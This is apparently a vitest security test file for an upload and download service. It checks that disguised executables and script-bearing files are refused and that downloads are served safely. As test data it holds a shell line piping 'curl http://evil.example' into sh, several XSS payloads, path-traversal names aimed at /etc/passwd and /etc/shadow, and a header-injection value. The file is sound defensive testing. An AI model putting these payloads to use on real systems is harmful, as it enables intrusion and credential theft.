/**
 * Upload safety, attacked through `POST /files` and `GET /downloads/:token`: the content decides
 * the type (a renamed executable, HTML or SVG with script is refused), the size is enforced while
 * streaming whatever the headers claim, a client's file name never reaches a storage location
 * (on disk: only hashed names inside the store's root, none executable), and downloads are
 * attachments with a safe name, `nosniff`, a sandboxing CSP and a type no browser runs.
 * (files.test.ts covers the ordinary paths: storing, 413 and 415, streaming downloads.)
 */
import { localFileStore } from '@statdesk/files-local';
import { mkdtemp, readdir, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { APPLICANT, ORIGIN, TENANT, pdfBytes, pngBytes, setup } from './support';

const text = (value: string) => new TextEncoder().encode(value);

/** Files that must never be accepted, each declared as a harmless type under a harmless name. */
const DISGUISED: [label: string, bytes: Uint8Array][] = [
  ['a Windows executable named receipt.pdf', new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, ...new Array<number>(400).fill(0)])],
  ['a Linux executable', new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, ...new Array<number>(400).fill(0)])],
  ['an HTML page with script', text('<!doctype html><html><body><script>fetch("/api/instances").then(r=>r.text()).then(alert)</script></body></html>')],
  ['an SVG with script', text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>')],
  ['a shell script', text('#!/bin/sh\ncurl http://evil.example | sh\n')],
  ['JavaScript', text('alert(document.cookie)')],
];

function upload(bytes: Uint8Array, declaredType: string, filename: string, path = '/files', headers: Record<string, string> = {}): Request {
  const form = new FormData();
  form.append('file', new Blob([bytes], { type: declaredType }), filename);
  return new Request(`${ORIGIN}${path}`, { method: 'POST', body: form, headers: { 'x-test-user': APPLICANT, ...headers } });
}

const HOSTILE_NAMES = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\system32\\drivers\\etc\\hosts',
  '/etc/shadow',
  'C:\\Windows\\System32\\evil.dll',
  'receipt\u0000.pdf.exe',
  'invoice\u202Efdp.exe',
  '.htaccess',
  '..',
  'a/../../b.pdf',
  '%2e%2e%2fsecret.pdf',
  'ＣＯＮ.pdf',
  'x\r\nSet-Cookie: session=stolen',
  'name"; filename*=UTF-8\'\'evil.exe',
  '\ud800broken.pdf',
  'رسید‌بانکی ۱۴۰۳.pdf',
];

describe('upload safety', () => {
  it.each(DISGUISED)('refuses %s with 415 whatever it claims to be, storing nothing', async (_label, bytes) => {
    const { handler, files } = setup();
    for (const [declared, name] of [
      ['application/pdf', 'receipt.pdf'],
      ['image/png', 'photo.png'],
      ['application/octet-stream', 'file'],
    ] as const) {
      for (const policy of ['default', 'receipt']) {
        const response = await handler(upload(bytes, declared, name, `/files?policy=${policy}`));
        expect([declared, policy, response.status]).toEqual([declared, policy, 415]);
        expect(await response.json()).toMatchObject({ type: 'UNSUPPORTED_MEDIA_TYPE' });
      }
    }
    expect((await files.list(TENANT)).files).toEqual([]);
  });

  it('enforces the size limit while streaming, even when Content-Length claims a small body', async () => {
    const { handler, files } = setup();
    const form = new FormData();
    form.append('file', new Blob([pdfBytes(5 * 1024 * 1024 + 1)], { type: 'application/pdf' }), 'big.pdf');
    const encoded = new Response(form);
    const response = await handler(
      new Request(`${ORIGIN}/files?policy=receipt`, {
        method: 'POST',
        body: encoded.body,
        headers: { 'content-type': encoded.headers.get('content-type')!, 'content-length': '100', 'x-test-user': APPLICANT },
        duplex: 'half',
      } as RequestInit),
    );
    expect(response.status).toBe(413);
    expect((await files.list(TENANT)).files).toEqual([]);
  });

  it('a multipart body cut off in the middle of the file is a 400 and leaves nothing stored', async () => {
    const { handler, files, logger } = setup();
    const cut = '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\r\n';
    const response = await handler(new Request(`${ORIGIN}/files`, { method: 'POST', body: cut, headers: { 'content-type': 'multipart/form-data; boundary=XyZ', 'x-test-user': APPLICANT } }));
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ issues: [expect.objectContaining({ path: 'body', code: 'malformed_multipart' })] });
    expect((await files.list(TENANT)).files).toEqual([]);
    expect(logger.lines).toEqual([]);
  });

  describe('on local disk', () => {
    const roots: string[] = [];
    afterAll(async () => {
      await Promise.all(roots.map((root) => rm(root, { recursive: true, force: true })));
    });

    it('keeps every upload under a server-chosen key; on disk only hashed names inside the root, none executable', async () => {
      const root = await mkdtemp(join(tmpdir(), 'statdesk-upload-safety-'));
      roots.push(root);
      const { handler } = setup({ files: localFileStore({ root }) });
      const keys: string[] = [];
      for (const name of HOSTILE_NAMES) {
        const response = await handler(upload(pngBytes(500), 'image/png', name));
        if (name.includes('\u0000')) {
          // A NUL is not allowed in a part's headers at all: the form is malformed.
          expect([name, response.status]).toEqual([name, 400]);
          continue;
        }
        expect([name, response.status]).toEqual([name, 201]);
        const reference = (await response.json()) as { key: string };
        expect(reference.key).toMatch(/^uploads\/[0-9a-f]{32}\/\d{4}-\d{2}\/[0-9a-f-]{36}$/);
        keys.push(reference.key);
      }
      expect(new Set(keys).size).toBe(HOSTILE_NAMES.length - 1);

      const onDisk = await walk(root);
      expect(onDisk.length).toBeGreaterThanOrEqual(keys.length);
      for (const file of onDisk) {
        const path = relative(root, file);
        expect(path.startsWith('..')).toBe(false);
        // <tenant-slug>-<hex>/<hh>/<hh>/<sha256>(.<id>.bin|.json): nothing of the client's name.
        expect(path).toMatch(/^[a-z0-9_-]+-[0-9a-f]{16}\/[0-9a-f]{2}\/[0-9a-f]{2}\/[0-9a-f]{64}(\.[A-Za-z0-9_-]+)*\.(bin|json)$/);
        expect((await stat(file)).mode & 0o111, `${path} is not executable`).toBe(0);
      }
    });
  });
});

describe('download safety', () => {
  async function serving(filename: string, contentType: string, bytes: Uint8Array = pdfBytes(200)) {
    const context = setup({ publicTenant: TENANT, downloads: async () => ({ file: { key: 'deliveries/f' }, filename }) });
    await context.files.put(TENANT, 'deliveries/f', bytes, { contentType });
    const response = await context.handler(new Request(`${ORIGIN}/downloads/t`));
    expect(response.status).toBe(200);
    return response;
  }

  it('is always an attachment, nosniff, sandboxed, private', async () => {
    const response = await serving('tables.pdf', 'application/pdf');
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; /);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(response.headers.get('cache-control')).toBe('private, no-store');
  });

  it.each(['text/html', 'text/html; charset=utf-8', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', 'application/javascript', 'text/javascript', 'application/x-msdownload', 'TEXT/HTML'])(
    'serves a file stored as %s as application/octet-stream',
    async (storedType) => {
      const response = await serving('page.html', storedType, text('<script>alert(1)</script>'));
      expect(response.headers.get('content-type')).toBe('application/octet-stream');
    },
  );

  it.each(['application/pdf', 'image/png', 'image/jpeg', 'text/csv', 'application/zip', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'])(
    'keeps the inert type %s',
    async (storedType) => {
      expect((await serving('f', storedType)).headers.get('content-type')).toBe(storedType);
    },
  );

  it.each(HOSTILE_NAMES)('names the download safely: %j', async (name) => {
    const header = (await serving(name, 'application/pdf')).headers.get('content-disposition')!;
    const match = /^attachment; filename="([\x20-\x7e]*)"; filename\*=UTF-8''([A-Za-z0-9%._~-]+)$/.exec(header);
    expect(match, header).not.toBeNull();
    const [, fallback, encoded] = match as unknown as [string, string, string];
    const exact = decodeURIComponent(encoded);
    for (const saved of [fallback, exact]) {
      expect(saved).not.toMatch(/[/\\]/);
      // eslint-disable-next-line no-control-regex -- control characters are what must be absent
      expect(saved).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
      expect(saved).not.toMatch(/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
      expect(saved).not.toMatch(/^[.\s]|[.\s]$/);
      expect(saved.length).toBeGreaterThan(0);
    }
    expect(fallback).not.toContain('"');
  });

  it('keeps a Persian name exactly, zero-width non-joiner included', async () => {
    const header = (await serving('رسید‌بانکی ۱۴۰۳.pdf', 'application/pdf')).headers.get('content-disposition')!;
    expect(decodeURIComponent(header.split("UTF-8''")[1]!)).toBe('رسید‌بانکی ۱۴۰۳.pdf');
  });
});

async function walk(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) out.push(...(await walk(path)));
    else out.push(path);
  }
  return out;
}
